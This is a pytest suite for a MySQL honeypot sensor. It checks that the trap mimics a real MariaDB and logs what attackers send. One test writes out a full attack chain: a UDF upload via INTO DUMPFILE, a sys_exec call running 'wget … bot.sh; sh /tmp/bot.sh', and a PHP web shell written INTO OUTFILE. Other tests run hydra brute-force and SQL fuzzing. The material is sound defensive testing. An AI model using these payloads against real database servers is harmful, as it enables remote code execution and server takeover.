# SPDX-License-Identifier: MIT
"""The MySQL trap against the real thing: Debian 12's mariadbd 10.11, the mysql client, PyMySQL, nmap, hydra.

* the greeting, the error for a wrong password, the answers to an SSLRequest, a pre-4.1 client
  and a plugin switch, and the answers to the queries clients and scanners send, compared field
  by field (packet by packet for queries) with a real ``mariadbd`` started here on loopback;
* the ``mysql`` client and PyMySQL refused like the real server, and what they sent logged;
* with ``clear_password_switch`` (a second sensor), PyMySQL, ``mysql`` and hydra send the
  plaintext, and an accepted login's ``SELECT 0x7f454c46... INTO DUMPFILE`` lands in the
  content store, its ``sys_exec('wget URL')`` fetched;
* ``nmap -sV --script mysql-info`` says the same of both servers; seeded fuzz leaves the sensor up.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import random
import re
import socket
import struct
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pymysql
import pytest
from mariadbutil import (
    RealMariaDB,
    frame,
    handshake_response,
    login,
    mariadb_missing,
    parse_greeting,
    query_packets,
    read_packet,
    run_real_mariadb,
)
from payloadserver import serve_payload
from sensorutil import SensorProc, free_port, need, run_sensor, wait_port

pytestmark = pytest.mark.skipif(mariadb_missing() is not None, reason=mariadb_missing() or "")

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 12  # a stand-in lib_mysqludf_sys.so
USERDB = ["root:x:!*", "admin:x:s3cret-admin"]  # root never gets in: every attempt refused


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RealMariaDB]:
    with run_real_mariadb(tmp_path_factory.mktemp("real-mariadb")) as r:
        yield r


def _start(workdir: Path, mysql: dict[str, Any], credentials: dict[str, Any] | None = None) -> Iterator[SensorProc]:
    overrides: dict[str, dict[str, Any]] = {
        "sensor.mysql": {"enabled": True, **mysql},
        "sensor.ssh": {"enabled": False},
        "sensor.telnet": {"enabled": False},
        "sensor.limits": {"max_per_ip": 400},
    }
    if credentials is not None:
        overrides["sensor.credentials"] = credentials
    with run_sensor(workdir, overrides) as sp:
        wait_port(int(mysql["listen"][0].rsplit(":", 1)[1]), proc=sp.proc)
        yield sp


@pytest.fixture(scope="module")
def sensor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorProc, int]]:
    """The default trap (no cleartext switch, hashed logins refused); root with no password gets in."""
    port = free_port()
    yield from ((sp, port) for sp in _start(tmp_path_factory.mktemp("sensor"), {"listen": [f"127.0.0.1:{port}"]}))


@pytest.fixture(scope="module")
def switching(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorProc, int]]:
    """The trap asking for the plaintext (``clear_password_switch``), the credential policy deciding."""
    port = free_port()
    cfg = {"listen": [f"127.0.0.1:{port}"], "clear_password_switch": True, "max_queries": 40}
    yield from ((sp, port) for sp in _start(tmp_path_factory.mktemp("switching"), cfg, {"userdb": USERDB}))


def _events(sp: SensorProc, eventid: str, **match: Any) -> list[dict[str, Any]]:
    return [e for e in sp.events() if e["eventid"] == eventid and all(e.get(k) == v for k, v in match.items())]


def _wait(sp: SensorProc, eventid: str, count: int = 1, **match: Any) -> list[dict[str, Any]]:
    sp.wait_for(lambda evs: len(_events(sp, eventid, **match)) >= count)
    return _events(sp, eventid, **match)


# --- differential: the handshake ------------------------------------------------------------------


def test_greeting_matches_the_real_mariadb_field_by_field(real: RealMariaDB, sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    greetings = {}
    for name, p in (("real", real.port), ("trap", port)):
        with socket.create_connection(("127.0.0.1", p), timeout=10) as s:
            seq, body = read_packet(s)
            assert seq == 0
            greetings[name] = parse_greeting(body)
    want, got = greetings["real"], greetings["trap"]
    for f in ("protocol", "version", "caps", "charset", "status", "auth_data_len", "reserved", "ext_caps", "plugin"):
        assert getattr(got, f) == getattr(want, f), f
    assert len(got.salt) == len(want.salt) == 20
    assert all(33 <= b <= 126 for b in got.salt + want.salt)  # create_random_string's alphabet
    assert not got.caps & 0x800  # no CLIENT_SSL: TLS is not offered, as in Debian's default config
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        later = parse_greeting(read_packet(s)[1])
    assert later.thread_id > got.thread_id and later.salt != got.salt


def test_wrong_password_gets_the_real_error(real: RealMariaDB, sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    for user, pw, plugin in (
        (b"root", b"wrong", b"mysql_native_password"),
        (b"nosuch", b"x", b"caching_sha2_password"),
    ):
        _, want = login(real.port, user, pw, plugin)
        _, got = login(port, user, pw, plugin)
        assert [seq for seq, _ in got] == [seq for seq, _ in want]
        if len(want) == 2:  # the switch to mysql_native_password: plugin name, a new 20-byte salt
            assert got[0][1][:23] == want[0][1][:23] == b"\xfemysql_native_password\x00"
            assert len(got[0][1]) == len(want[0][1])
        assert got[-1][1] == want[-1][1]
        assert got[-1][1].startswith(b"\xff\x15\x04#28000Access denied for user '" + user + b"'@'localhost'")
    ev = _wait(sp, "mysql.login.failed", username="nosuch")[0]
    assert ev["extra"]["auth_plugin"] == "caching_sha2_password"
    assert ev["extra"]["auth_switch"] == "mysql_native_password" and len(ev["extra"]["auth_response"]) == 40


def test_login_with_a_database_is_answered_as_the_real_server(
    real: RealMariaDB, sensor: tuple[SensorProc, int]
) -> None:
    _, port = sensor
    for caps in (0x00AFA28C, 0x000AA20D):  # with and without session tracking
        for db in (b"mysql", b"nosuch"):
            body = struct.pack("<IIB", caps, 1 << 24, 45) + b"\0" * 23 + b"root\0\0" + db + b"\0mysql_native_password\0"
            assert _raw_exchange(port, body, answers=1) == _raw_exchange(real.port, body, answers=1), (hex(caps), db)


def _change_user(port: int, user: bytes, reply: bytes) -> list[tuple[int, bytes]]:
    """Log in as root (no password), COM_CHANGE_USER to ``user`` answering the switch with ``reply``,
    then ``select 1``: every packet the server answered."""
    out: list[tuple[int, bytes]] = []
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        read_packet(s)
        s.sendall(
            frame(1, struct.pack("<IIB", 0x000AA205, 1 << 24, 45) + b"\0" * 23 + b"root\0\0mysql_native_password\0")
        )
        read_packet(s)
        s.sendall(
            frame(
                0,
                b"\x11" + user + b"\0\x14" + b"\x01" * 20 + b"\0" + struct.pack("<H", 45) + b"mysql_native_password\0",
            )
        )
        out.append(read_packet(s))
        if out[-1][1][:1] == b"\xfe":
            s.sendall(frame(out[-1][0] + 1, reply))
            out.append(read_packet(s))
        s.sendall(frame(0, b"\x03select 1"))
        out.append(read_packet(s))
    return [(seq, body[:23] if body[:1] == b"\xfe" else body) for seq, body in out]  # not the new scramble


def test_change_user_is_answered_as_the_real_server(real: RealMariaDB, sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    for user, reply in ((b"root", b""), (b"nosuch", b"\x02" * 20)):
        assert _change_user(port, user, reply) == _change_user(real.port, user, reply), user
    assert _wait(sp, "mysql.login.failed", username="nosuch")[-1]["extra"]["auth_switch"] == "mysql_native_password"


def _raw_exchange(port: int, body: bytes, seq: int = 1, answers: int = 8) -> list[tuple[int, bytes]]:
    """The packets answering ``body`` sent after the greeting: up to ``answers`` of them, or until closed."""
    out: list[tuple[int, bytes]] = []
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        read_packet(s)
        s.sendall(frame(seq, body))
        try:
            while len(out) < answers:
                out.append(read_packet(s))
        except (ConnectionError, TimeoutError):
            pass
    return out


def test_ssl_request_old_clients_and_junk_are_answered_as_the_real_server(
    real: RealMariaDB, sensor: tuple[SensorProc, int]
) -> None:
    _, port = sensor
    probes = [
        (struct.pack("<IIB", 0x000AAA05, 1 << 24, 45) + b"\0" * 23, 1),  # SSLRequest, TLS not offered
        (struct.pack("<H", 0x0205 & ~0x200) + b"\0\0\x01root\0abcdefgh", 1),  # pre-4.1 (HandshakeResponse320)
        (b"\x05\xa2", 1),
        (b"\x01\x02" * 40, 5),  # out of order
    ]
    for body, seq in probes:
        assert _raw_exchange(port, body, seq) == _raw_exchange(real.port, body, seq), body[:16]


# --- differential: the queries --------------------------------------------------------------------

QUERIES = [
    b"select @@version_comment limit 1",
    b"SELECT VERSION()",
    b"select @@version",
    b"show databases",
    b"SHOW VARIABLES LIKE 'version%'",
    b"show variables like '%plugin%'",
    b"select @@plugin_dir",
    b"select @@version_compile_os",
    b"SELECT @@version_comment, VERSION()",
    b"SELECT DATABASE()",
    b"show tables",
    b"select * from nosuch",
    b"SET NAMES utf8mb4",
    b"set names 'utf8'",
    b"set autocommit=0",
    b"select 1",
    b"SET @@session.autocommit = 1",
    b"set sql_mode=''",
    b"set time_zone='+00:00'",
    b"use mysql",
    b"SELECT DATABASE()",
    b"show tables",
    b"select user()",
    b"select current_user()",
    b"show grants",
    b"select @a",
    b"set @a=0x41",
    b"select @a",
    b"select sleep(0)",
    b"SELECT 123456789012",
    b"drop function sys_exec",
    b"select sys_exec('id')",
    b"create function sys_exec returns integer soname 'nosuch_udf.so'",
    b"foo bar",
    b"",
    b"begin",
    b"commit",
]
CAPS = {
    "pymysql": (0x000AA205, 0),
    "libmariadb": (0x00AFA284, 0x1D),  # session tracking, MariaDB's cached and extended metadata
    "deprecate-eof": (0x010AA205, 0),
}


def _tracked_sorted(packets: list[tuple[int, bytes]]) -> list[tuple[int, bytes]]:
    """OK packets' session-state entries in a fixed order: mariadbd lists changed variables in hash order."""
    out = []
    for seq, body in packets:
        if body[:1] == b"\x00" and len(body) > 9 and body[4] & 0x40 and body[7] == 0 and body[8] < 0xFB:
            entries, i = [], 9
            while i + 1 < len(body) and body[i + 1] < 0xFB:
                end = i + 2 + body[i + 1]
                entries.append(body[i:end])
                i = end
            body = body[:9] + b"".join(sorted(entries)) + body[i:]
        out.append((seq, body))
    return out


@pytest.mark.parametrize("client", sorted(CAPS))
def test_queries_are_answered_as_the_real_server(
    real: RealMariaDB, sensor: tuple[SensorProc, int], client: str
) -> None:
    _, port = sensor
    caps, ext = CAPS[client]
    want = query_packets(real.port, QUERIES, caps, ext)
    got = query_packets(port, QUERIES, caps, ext)
    diffs = []
    for q, w, g in zip(QUERIES, map(_tracked_sorted, want), map(_tracked_sorted, got), strict=True):
        if w != g:
            diffs.append(f"{q!r}\n  real: {w!r:.600}\n  trap: {g!r:.600}")
    assert not diffs, "\n".join(diffs)


# --- real clients ---------------------------------------------------------------------------------


def _mysql(port: int, *args: str) -> subprocess.CompletedProcess[str]:
    cmd = ["mysql", "--no-defaults", "-h", "127.0.0.1", "-P", str(port), "--connect-timeout=10", *args]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=30)


def test_mysql_client_is_refused_as_by_the_real_server(real: RealMariaDB, sensor: tuple[SensorProc, int]) -> None:
    if reason := need("mysql"):
        pytest.skip(reason)
    sp, port = sensor
    want = _mysql(real.port, "-u", "root", "-pwrong", "-e", "select 1")
    got = _mysql(port, "-u", "root", "-pwrong", "-e", "select 1")
    assert (got.returncode, got.stderr) == (want.returncode, want.stderr)
    assert "ERROR 1045 (28000): Access denied for user 'root'@'localhost' (using password: YES)" in got.stderr
    evs = sp.wait_for(lambda evs: any(str(e.get("client_version")).startswith("libmariadb ") for e in evs))
    ev = [e for e in evs if e["eventid"] == "mysql.login.failed" and e.get("client_version")][-1]
    assert ev["username"] == "root"
    assert ev.get("password") is None and len(ev["extra"]["auth_response"]) == 40
    assert ev["extra"]["attrs"]["program_name"] == "mysql"
    # no password: the one plaintext every client sends; the policy lets root in, as the real root@localhost
    sql = "select @@version_comment; show databases; select version()"
    ok = _mysql(port, "-u", "root", "--password=", "-e", sql)
    assert ok.returncode == 0 and ok.stdout == _mysql(real.port, "-u", "root", "--password=", "-e", sql).stdout


def test_pymysql_login_is_refused(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    with pytest.raises(pymysql.err.OperationalError) as exc:
        pymysql.connect(host="127.0.0.1", port=port, user="dbadmin", password="P@ssw0rd", connect_timeout=10)
    assert exc.value.args == (1045, "Access denied for user 'dbadmin'@'localhost' (using password: YES)")
    ev = _wait(sp, "mysql.login.failed", username="dbadmin")[-1]
    assert ev["client_version"].startswith("pymysql ")


def test_cleartext_switch_captures_the_password(switching: tuple[SensorProc, int]) -> None:
    sp, port = switching
    with pytest.raises(pymysql.err.OperationalError) as exc:
        pymysql.connect(host="127.0.0.1", port=port, user="root", password="hunter2", connect_timeout=10)
    assert exc.value.args[0] == 1045
    ev = _wait(sp, "mysql.login.failed", password="hunter2")[-1]
    assert ev["username"] == "root" and ev["extra"]["auth_switch"] == "mysql_clear_password"
    if need("mysql") is None:
        # --enable-cleartext-plugin is the MySQL client's opt-in; MariaDB's accepts it (obsolete, on by default)
        res = _mysql(port, "-u", "root", "-pcorrect-horse", "--enable-cleartext-plugin", "-e", "select 1")
        assert "ERROR 1045 (28000)" in res.stderr
        _wait(sp, "mysql.login.failed", username="root", password="correct-horse")


def test_dumpfile_udf_upload_is_stored_and_its_command_fetched(switching: tuple[SensorProc, int]) -> None:
    sp, port = switching
    hits: list[str] = []
    with serve_payload(b"#!/bin/sh\necho pwned\n", hits) as web:
        conn = pymysql.connect(host="127.0.0.1", port=port, user="admin", password="s3cret-admin", connect_timeout=10)
        with conn, conn.cursor() as cur:
            assert cur.execute(f"SELECT 0x{ELF.hex()} INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'") == 1
            cur.execute("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'x.so'")
            cur.execute(f"select sys_exec('wget http://127.0.0.1:{web}/bot.sh -O /tmp/bot.sh; sh /tmp/bot.sh')")
            assert cur.fetchall() == ((0,),)
            shell = base64.b64encode(b"<?php system($_GET['c']); ?>").decode()
            cur.execute(f"SELECT FROM_BASE64('{shell}') INTO OUTFILE '/var/www/html/x.php'")
            with pytest.raises(pymysql.err.OperationalError) as exc:
                cur.execute(f"SELECT 0x{ELF.hex()} INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'")
            assert exc.value.args == (1086, "File '/usr/lib/mysql/plugin/x.so' already exists")
        ups = _wait(sp, "mysql.session.file_upload", count=2)
        udf = next(e for e in ups if e["extra"]["path"] == "/usr/lib/mysql/plugin/x.so")
        assert udf["sha256"] == hashlib.sha256(ELF).hexdigest() and udf["extra"]["kind"] == "udf"
        assert (sp.spool / "downloads" / udf["sha256"][:2] / udf["sha256"]).read_bytes() == ELF
        php = next(e for e in ups if e["extra"]["path"] == "/var/www/html/x.php")
        assert php["extra"]["kind"] == "webshell" and php["extra"]["size"] == 28
        sp.wait_for(lambda evs: any(e["eventid"] == "cowrie.session.file_download" for e in evs))
    assert hits == ["/bot.sh"]
    ok = _wait(sp, "mysql.login.success", username="admin")[-1]
    assert ok["password"] == "s3cret-admin"


def test_hydra_attempts_are_each_logged(switching: tuple[SensorProc, int], tmp_path: Path) -> None:
    if reason := need("hydra"):
        pytest.skip(reason)
    sp, port = switching
    words = [f"hydra-{i}-pw" for i in range(5)]
    (tmp_path / "pw.txt").write_text("\n".join(words) + "\n")
    outputs = []

    def logged() -> set[str]:
        return {e.get("password") for e in sp.events() if e["eventid"] == "mysql.login.failed"} & set(words)

    # One more run for any password missing after the first: on a loaded machine (the whole suite on two
    # cores) a hydra child can give up on a connection before sending its password; what is checked is
    # that every password hydra does send is logged, not hydra's own retry policy.
    for attempt in range(2):
        todo = [w for w in words if w not in logged()] if attempt else words
        if not todo:
            break
        (tmp_path / "pw.txt").write_text("\n".join(todo) + "\n")
        cmd = ["hydra", "-V", "-l", "root", "-P", str(tmp_path / "pw.txt"), "-s", str(port), "-t", "2", "-W", "1"]
        res = subprocess.run([*cmd, "mysql://127.0.0.1"], capture_output=True, text=True, timeout=60)
        outputs.append(res.stdout + res.stderr)
        assert "0 valid password" in res.stdout, outputs[-1]
        with contextlib.suppress(AssertionError):
            sp.wait_for(lambda evs, want=set(todo): logged() >= want, timeout=10)
    assert logged() == set(words), (sorted(logged()), outputs)
    tried = [e for e in sp.events() if e["eventid"] == "mysql.login.failed" and e.get("password") in words]
    assert all(e["username"] == "root" for e in tried) and len(tried) >= 5


def test_nmap_mysql_info_says_what_it_says_of_the_real_server(
    real: RealMariaDB, sensor: tuple[SensorProc, int]
) -> None:
    if reason := need("nmap"):
        pytest.skip(reason)
    _, port = sensor
    res = subprocess.run(
        ["nmap", "-Pn", "-n", "-sV", "--script", "mysql-info", "-p", f"{real.port},{port}", "127.0.0.1"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    blocks = {int(m.group(1)): m.group(0) for m in re.finditer(r"(?ms)^(\d+)/tcp.*?(?=^\d+/tcp|\Z)", res.stdout)}
    assert set(blocks) == {real.port, port}, res.stdout

    def facts(block: str) -> list[str]:
        out = [re.sub(r"^\d+/tcp", "P/tcp", block.splitlines()[0])]
        for line in block.splitlines()[1:]:
            if not line.startswith("|") or "Thread ID" in line or "Salt:" in line:
                continue
            if "Some Capabilities:" in line:
                head, caps = line.split(":", 1)
                line = head + ": " + ", ".join(sorted(c.strip() for c in caps.split(",")))
            out.append(line)
        return out

    assert facts(blocks[port]) == facts(blocks[real.port])
    assert "MySQL 5.5.5-10.11." in blocks[port] and "-MariaDB-0+deb12u1" in blocks[port]


# --- hardening ------------------------------------------------------------------------------------


FUZZ_SQL = [
    b"SELECT 0x41 INTO DUMPFILE '/tmp/x'",
    b"set @a=concat(0x41,unhex('42'),from_base64('Qw=='))",
    b"select @a into outfile '/x' lines terminated by 0x4142",
    b"insert into t values (0x41)",
    b"select * from t into dumpfile '/y'",
    b"create function f returns string soname 'x.so'",
    b"select f('a'), 1, 'b', @a, @@version",
    b"show variables like '%a%'",
    b"SET NAMES latin1",
    b"use mysql",
    b"/*!50000select*/ 1 -- x",
]


def test_fuzzed_handshakes_and_commands_leave_the_sensor_serving(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    rng = random.Random(14_5)
    base = handshake_response(b"x" * 20, b"root", b"")
    for i in range(150):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            read_packet(s)
            if i % 3 == 0:  # a mutated handshake response
                body = bytearray(base)
                for _ in range(rng.randint(1, 8)):
                    body[rng.randrange(len(body))] = rng.randrange(256)
                data = frame(1, bytes(body[: rng.randint(0, len(body))]))
            elif i % 3 == 1:  # random bytes, lengths past the caps
                data = rng.randbytes(rng.randint(1, 64))
                if i % 9 == 1:
                    data = b"\xff\xff\xff\x01" + data
            else:  # logged in, then random commands and mutated queries
                s.sendall(frame(1, base))
                read_packet(s)
                packets = []
                for _ in range(6):
                    sql = bytearray(rng.choice(FUZZ_SQL))
                    for _ in range(rng.randint(0, 4)):
                        at = rng.randrange(len(sql) + 1)
                        sql[at:at] = bytes([rng.choice(b"'\"`(),;@/*#\\x0 \xff")])
                    packets.append(b"\x03" + bytes(sql))
                    packets.append(bytes([rng.randrange(0x20)]) + rng.randbytes(rng.randint(0, 40)))
                data = b"".join(frame(0, p) for p in packets)
            s.settimeout(2)
            try:
                s.sendall(data)
                s.shutdown(socket.SHUT_WR)
                while s.recv(65536):
                    pass
            except OSError:
                pass
    closed = sp.wait_for(lambda evs: sum(e["eventid"] == "mysql.session.closed" for e in evs) >= 150)
    reasons = [e["extra"]["reason"] for e in closed if e["eventid"] == "mysql.session.closed"]
    assert any(r.startswith("malformed") for r in reasons)
    assert not [r for r in reasons if r.startswith("error")], reasons
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:  # still serving
        assert parse_greeting(read_packet(s)[1]).version.startswith("5.5.5-10.11.")


def test_packets_past_the_cap_and_too_many_queries_close_the_connection(switching: tuple[SensorProc, int]) -> None:
    sp, port = switching
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        read_packet(s)
        s.sendall((2 * 1024 * 1024).to_bytes(3, "little") + b"\x01")
        assert read_packet(s)[1] == b"\xff\x81\x04#08S01Got a packet bigger than 'max_allowed_packet' bytes"
        assert s.recv(10) == b""
    conn = pymysql.connect(host="127.0.0.1", port=port, user="admin", password="s3cret-admin", connect_timeout=10)
    with pytest.raises(pymysql.err.OperationalError), conn.cursor() as cur:
        for _ in range(50):
            cur.execute("select 1")
    sp.wait_for(
        lambda evs: any(e["eventid"] == "mysql.session.closed" and e["extra"]["reason"] == "max_queries" for e in evs)
    )
